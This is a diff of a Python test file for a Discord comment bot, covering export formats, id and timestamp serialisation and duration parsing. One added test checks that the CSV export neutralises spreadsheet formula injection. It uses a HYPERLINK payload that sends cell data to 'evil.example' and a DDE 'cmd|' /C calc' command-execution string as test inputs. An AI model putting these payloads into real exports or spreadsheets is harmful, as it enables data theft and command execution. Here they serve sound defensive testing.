@@ -18,14 +18,17 @@ from bot.comments.tree import build_tree, paginate, render_lines
 from bot.moderation.rules import format_duration, parse_duration
 from bot.moderation.service import MUTE_EXPIRED, ModerationError, ModerationService
 from bot.privacy import forget_user
+from bot.storage.activity import ActivityStore
 from bot.storage.comments import CommentStore, ReactionStore
 from bot.storage.database import Database
+from bot.storage.exports import ExportStore
 from bot.storage.moderation import ModerationStore
 from bot.storage.posts import PostStore
 from bot.storage.privacy import PrivacyStore
 from bot.storage.threads import ThreadStore
 from bot.storage.timers import TimerStore
 from bot.storage.writer import BatchWriter
+from tests.hang_guard import finishes
 
 GUILD, THREAD, CHANNEL = 1, 500, 50
 BOT = 99  # the bot's own user id: the moderator of what it does by itself
@@ -100,11 +103,11 @@ async def test_reactions_on_story_post_and_comments_count(env: Env) -> None:
     assert not await env.recorder.on_reaction(added=True, guild_id=GUILD, channel_id=77, message_id=5,
                                               user_id=9, emoji="👍", at=2.0)
     await env.recorder.flush()
-    stats = await DiscussionStats(env.db).for_article(GUILD, env.article_id)
+    stats = await DiscussionStats(ActivityStore(env.db)).for_article(GUILD, env.article_id)
     assert stats is not None and (stats.comments, stats.participants, stats.reactions) == (1, 1, 2)
-    ranked = await DiscussionStats(env.db).ranked(GUILD, since=0)
+    ranked = await DiscussionStats(ActivityStore(env.db)).ranked(GUILD, since=0)
     assert [a.article_id for a in ranked] == [env.article_id]
-    assert await DiscussionStats(env.db).ranked(GUILD, since=1e12) == []
+    assert await DiscussionStats(ActivityStore(env.db)).ranked(GUILD, since=1e12) == []
 
 
 async def test_mute_removes_new_comments_and_expiry_is_a_timer(env: Env) -> None:
@@ -152,15 +155,59 @@ async def test_export_json_and_csv(env: Env) -> None:
     await env.recorder.on_reaction(added=True, guild_id=GUILD, channel_id=THREAD, message_id=1002, user_id=7,
                                    emoji="👍", at=3.0)
     await env.recorder.flush()
-    exporter = CommentExporter(env.db)
+    exporter = CommentExporter(ExportStore(env.db))
     data = json.loads(await exporter.export(GUILD, "json", article_id=env.article_id))
     by_id = {c["message_id"]: c for c in data["comments"]}
-    assert by_id[1002]["parent_id"] == 1001 and by_id[1002]["reactions"][0]["emoji"] == "👍"
-    assert by_id[1001]["revisions"][0]["old_content"] == "first"
+    assert by_id["1002"]["parent_id"] == "1001" and by_id["1002"]["reactions"][0]["emoji"] == "👍"
+    assert by_id["1001"]["revisions"][0]["old_content"] == "first"
     rows = list(csv.DictReader(io.StringIO((await exporter.export(GUILD, "csv")).decode())))
     assert [r["message_id"] for r in rows] == ["1001", "1002"] and rows[1]["content"].endswith("and lines")
     with pytest.raises(ValueError):
         await exporter.export(GUILD, "xml")
+
+
+async def test_export_writes_ids_as_strings_and_times_as_iso_utc(env: Env) -> None:
+    # Real Discord ids exceed 2**53: as JSON numbers, jq and JavaScript read 1577435708916760581 as ...600.
+    alice, bob, first = 1577435708916760581, 1577435708916760582, 1577435708916760700
+    await env.recorder.on_message(IncomingMessage(first, GUILD, THREAD, alice, "alice", False, "hi", 1796160383.01))
+    await env.recorder.on_message(IncomingMessage(first + 1, GUILD, THREAD, bob, "bob", False, "yo", 1796160384.5,
+                                                  reply_to_id=first))
+    await env.recorder.on_edit(guild_id=GUILD, thread_id=THREAD, message_id=first, content="hi!", edited_at=1796160390)
+    await env.recorder.on_reaction(added=True, guild_id=GUILD, channel_id=THREAD, message_id=first, user_id=bob,
+                                   emoji="👍", at=1796160391.25)
+    await env.recorder.flush()
+    exporter = CommentExporter(ExportStore(env.db))
+    data = json.loads(await exporter.export(GUILD, "json"))
+    assert data["guild_id"] == str(GUILD) and data["article_id"] is None
+    one, two = data["comments"]
+    assert (one["message_id"], one["author_id"], two["author_id"], two["parent_id"]) == (
+        str(first), str(alice), str(bob), str(first))
+    assert one["thread_id"] == str(THREAD) and one["article_id"] == str(env.article_id)
+    assert one["created_at"] == "2026-12-01T21:26:23.010Z" and one["deleted_at"] is None
+    assert one["revisions"][0]["edited_at"] == "2026-12-01T21:26:30.000Z"
+    assert one["reactions"][0] == {"user_id": str(bob), "emoji": "👍", "added_at": "2026-12-01T21:26:31.250Z",
+                                   "removed_at": None}
+    rows = list(csv.DictReader(io.StringIO((await exporter.export(GUILD, "csv")).decode())))
+    assert rows[0]["author_id"] == str(alice) and rows[0]["created_at"] == "2026-12-01T21:26:23.010Z"
+    assert json.loads(rows[0]["reactions"])[0]["user_id"] == str(bob)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+async def test_csv_export_writes_formula_like_cells_as_text(env: Env, start: str) -> None:
+    formula = start + 'HYPERLINK("http://evil.example/?x="&A1,"click")'
+    await env.recorder.on_message(IncomingMessage(1001, GUILD, THREAD, 7, start + "cmd|' /C calc'!A0", False,
+                                                  formula, 1000.0))
+    await env.recorder.flush()
+    await env.comments.mark_removed(1001, 9, start + "1+1", 1001.0)
+    await env.comments.flush()
+    rows = list(csv.DictReader(io.StringIO((await CommentExporter(ExportStore(env.db)).export(GUILD, "csv")).decode(),
+                                           newline="")))
+    assert rows[0]["content"] == "'" + formula
+    assert rows[0]["author_name"] == "'" + start + "cmd|' /C calc'!A0"
+    assert rows[0]["removed_reason"] == "'" + start + "1+1"
+    # JSON keeps the text as written: only spreadsheets run formulas.
+    data = json.loads(await CommentExporter(ExportStore(env.db)).export(GUILD, "json"))
+    assert data["comments"][0]["content"] == formula
 
 
 async def test_forget_me_leaves_no_row_of_the_user(env: Env) -> None:
@@ -185,6 +232,16 @@ def test_durations() -> None:
     for bad in ["", "soon", "0m", "400d", "5x"]:
         with pytest.raises(ValueError):
             parse_duration(bad)
+    assert parse_duration("1w 2d 3h 4m 5s") == 788645 and parse_duration("2H30M") == 9000
+
+
+def test_a_6000_digit_duration_is_refused_at_once_in_one_short_line() -> None:
+    # Discord allows 6,000 characters in an option: the old regex took seconds on "1111…" (quadratic), and
+    # 6,000 digits followed by "m" went on to int(), past Python's 4,300-digit limit.
+    for bad in ["1" * 6000, "1" * 6000 + "x", "9" * 6000 + "m"]:
+        with pytest.raises(ValueError, match="is not a duration") as info:
+            finishes(parse_duration, bad)
+        assert len(str(info.value)) < 150
 
 
 def test_digest_due_once_per_day_and_late_after_downtime() -> None:
